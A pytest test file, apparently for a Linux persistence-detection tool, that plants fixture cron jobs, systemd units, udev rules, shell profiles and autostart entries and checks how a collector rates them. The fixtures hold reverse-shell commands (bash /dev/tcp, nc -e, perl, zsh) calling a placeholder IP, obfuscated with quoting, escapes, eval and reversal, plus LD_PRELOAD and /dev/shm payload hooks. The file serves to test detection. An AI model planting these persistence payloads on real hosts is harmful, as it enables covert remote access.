@@ -1,0 +1,159 @@
+"""Persistence against a hostile host (issue 21 review, helper a21): payloads hidden by the
+quoting, continuation and indirection forms the real consumer (bash, systemd, udev, the desktop
+session) still executes, files in unit directories the piece used to skip, and collector traps
+(FIFOs, devices, loops, long lines, garbled listings). Each plant runs through the real collector
+piece over a fixture tree ($HR), then the parser; benign look-alikes stay below high."""
+
+from __future__ import annotations
+
+import os
+import sys
+import time
+from pathlib import Path
+
+import pytest
+
+from hardening.hunt.model import Tier
+from hardening.hunt.payload import ansi_c, judge
+from hardening.hunt.persistence import parse_persistence
+
+sys.path.insert(0, str(Path(__file__).parent))
+from test_persistence import run_piece  # noqa: E402
+
+IP = "192.0.2.1"  # TEST-NET-1: nothing connects, the text is only read
+LONG = ": " + "A" * 3000 + f"; bash -i >& /dev/tcp/{IP}/4444 0>&1 &\n"
+
+MALICIOUS: dict[str, str] = {
+    # bash undoes the quoting: the same /dev/tcp redirection
+    "etc/cron.d/quoted": f"* * * * * root bash -c \"bash -i >& /d''ev/tc''p/{IP}/4444 0>&1\"\n",
+    "root/.bashrc": f"bash -i >& $'\\x2f'dev/tcp/{IP}/4444 0>&1 &\n",
+    "etc/cron.d/evaljob": f'* * * * * root eval "nc {IP} 4444 -e /bin/sh"\n',
+    "etc/cron.d/envsplit": f"* * * * * root env -S 'nc -e /bin/sh {IP} 4444'\n",
+    "etc/cron.d/reversed": f"* * * * * root echo '1&>0 4444/{IP[::-1]}/pct/ved/ &> i- hsab' | rev | bash\n",
+    # a script in a world-writable directory run by an interpreter or sourced
+    "etc/rc.local": "#!/bin/sh\nsh /tmp/.s\nexit 0\n",
+    "etc/profile.d/zz-src.sh": ". /dev/shm/.env\n",
+    "etc/profile.d/long.sh": LONG,
+    # systemd: a continuation line, the control directory, the user data directory, loader variables
+    "etc/systemd/system/cont.service": f"[Service]\nExecStartPre=/bin/sh -c \\\n  'nc {IP} 4444 -e /bin/sh'\n"
+    "ExecStart=/bin/true\n",
+    "etc/systemd/system.control/ssh.service.d/50-x.conf": "[Service]\nExecStartPost=/dev/shm/.x\n",
+    "root/.local/share/systemd/user/sync.service": "[Service]\nExecStart=/usr/bin/python3 /tmp/.p.py\n",
+    "etc/systemd/system/pre.service.d/env.conf": "[Service]\nEnvironment=LD_PRELOAD=/dev/shm/l.so\n",
+    "etc/systemd/system/envf.service": "[Service]\nEnvironmentFile=-/tmp/.e\nExecStart=/usr/bin/sleep 1\n",
+    # udev's RUN{program}+= is RUN+=
+    "etc/udev/rules.d/99-x.rules": 'ACTION=="add", RUN{program}+="/dev/shm/u"\n',
+    # the desktop session runs an autostart entry's Exec= at login
+    "root/.config/autostart/upd.desktop": f'[Desktop Entry]\nType=Application\nExec=sh -c "ncat {IP} 4444 -e /bin/sh"\n',
+    "etc/xdg/autostart/x.desktop": f"[Desktop Entry]\nExec=bash -c 'bash -i >& /dev/tcp/{IP}/4444 0>&1'\n",
+}
+MEDIUM: dict[str, str] = {
+    "etc/systemd/system/pre2.service.d/env.conf": '[Service]\nEnvironment="LD_PRELOAD=/opt/l/x.so" LANG=C\n',
+    # the continuation was not read (no pattern on it): never silently clean
+    "etc/systemd/system/py.service": "[Service]\nExecStart=/usr/bin/python3 -c \\\n  'import os'\n",
+}
+BENIGN: dict[str, str] = {
+    "etc/cron.d/backup": "0 3 * * * root bash /usr/local/sbin/backup.sh\n",
+    "etc/systemd/system/app.service": "[Service]\nEnvironment=LANG=C.UTF-8 PATH=/usr/bin\nExecStart=/usr/bin/app \\\n"
+    "  --config /etc/app.conf\n",
+    "etc/xdg/autostart/applet.desktop": "[Desktop Entry]\nName=Applet\nExec=/usr/bin/nm-applet\n",
+    "etc/profile.d/ok.sh": ". /etc/os-release\n",
+}
+
+
+def _tree(root: Path, plants: dict[str, str]) -> None:
+    (root / "etc").mkdir(parents=True, exist_ok=True)
+    (root / "etc/passwd").write_text("root:x:0:0:root:/root:/bin/sh\nweird:x:9:9::/proc:/bin/sh\n")
+    (root / "root").mkdir(exist_ok=True)
+    for rel, text in plants.items():
+        p = root / rel
+        p.parent.mkdir(parents=True, exist_ok=True)
+        p.write_text(text)
+
+
+@pytest.fixture(scope="module")
+def report(tmp_path_factory):
+    root = tmp_path_factory.mktemp("hostile") / "r"
+    _tree(root, {**MALICIOUS, **MEDIUM, **BENIGN})
+    return root, parse_persistence(run_piece(root))
+
+
+def test_hidden_payloads_are_high(report):
+    root, rep = report
+    found = {f.entry.path: f for f in rep.findings}
+    for rel in MALICIOUS:
+        f = found.get(f"{root}/{rel}")
+        assert f is not None and f.tier is Tier.HIGH, (rel, f)
+
+
+def test_unread_continuations_and_loader_paths_are_medium(report):
+    root, rep = report
+    found = {f.entry.path: f for f in rep.findings}
+    for rel in MEDIUM:
+        f = found.get(f"{root}/{rel}")
+        assert f is not None and f.tier is Tier.MEDIUM, (rel, f)
+
+
+def test_benign_look_alikes_are_not_high(report):
+    root, rep = report
+    found = {f.entry.path: f for f in rep.findings}
+    for rel in BENIGN:
+        f = found.get(f"{root}/{rel}")
+        assert f is None or f.tier is not Tier.HIGH, (rel, f)
+
+
+def test_long_line_keeps_its_end(report):
+    root, rep = report
+    f = {x.entry.path: x for x in rep.findings}[f"{root}/etc/profile.d/long.sh"]
+    assert any("/dev/tcp/" in t and "[...]" in t for _, t in f.entry.lines), f.entry.lines
+
+
+def test_fifos_devices_and_loops_never_block(tmp_path):
+    root = tmp_path / "r"
+    _tree(root, {"etc/cron.d/real": f"* * * * * root nc -e /bin/sh {IP} 1\n"})
+    os.mkfifo(root / "etc/cron.d/fifo")
+    os.mkfifo(root / "fifo2")
+    (root / "etc/cron.d/tofifo").symlink_to(root / "fifo2")
+    (root / "etc/cron.d/zero").symlink_to("/dev/zero")
+    (root / "etc/cron.d/loop").symlink_to(root / "etc/cron.d/loop")
+    (root / "root/.bashrc").symlink_to(root / "fifo2")
+    start = time.monotonic()
+    rep = parse_persistence(run_piece(root))
+    assert time.monotonic() - start < 30
+    assert {f.entry.path for f in rep.findings if f.tier is Tier.HIGH} >= {f"{root}/etc/cron.d/real"}
+
+
+def test_a_symlink_target_with_a_tab_or_newline_is_never_silent(tmp_path):
+    root = tmp_path / "r"
+    _tree(root, {})
+    target = root / "opt/a\tb"
+    target.mkdir(parents=True)
+    (target / "evil.service").write_text(f"[Service]\nExecStart=/bin/nc -e /bin/sh {IP} 1\n")
+    (root / "etc/systemd/system").mkdir(parents=True)
+    (root / "etc/systemd/system/evil.service").symlink_to(target / "evil.service")
+    nl = root / "opt/c\nd"
+    nl.mkdir(parents=True)
+    (nl / "x.service").write_text("[Service]\nExecStart=/bin/true\n")
+    (root / "etc/systemd/system/x.service").symlink_to(nl / "x.service")
+    rep = parse_persistence(run_piece(root))
+    high = {f.entry.path for f in rep.findings if f.tier is Tier.HIGH}
+    assert f"{root}/etc/systemd/system/evil.service" in high or not rep.complete, rep
+    assert not rep.complete and any("listing lines" in w for w in rep.warnings), rep.warnings
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        f'bash -i >& "/dev/"tcp/{IP}/1 0>&1',
+        f"a=/dev/tc; bash -i >& ${{a}}p/{IP}/1 0>&1",
+        f"perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,\"{IP}:1\");STDIN->fdopen($c,r);system$_ while<>;'",
+        f"zsh -c 'zmodload zsh/net/tcp && ztcp {IP} 1 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
+        f"echo x | gzip -d | sh; LD_PRELOAD=/var/tmp/.l.so /usr/sbin/cron {IP}",
+    ],
+)
+def test_judge_sees_through_obfuscation(text):
+    assert judge(text) and judge(text)[0][0] is Tier.HIGH, judge(text)
+
+
+def test_ansi_c_decodes_as_bash():
+    assert ansi_c(r"x $'\x2f\101\u0042\cA\'q' y") == "x '/AB\x01'\\''q' y"
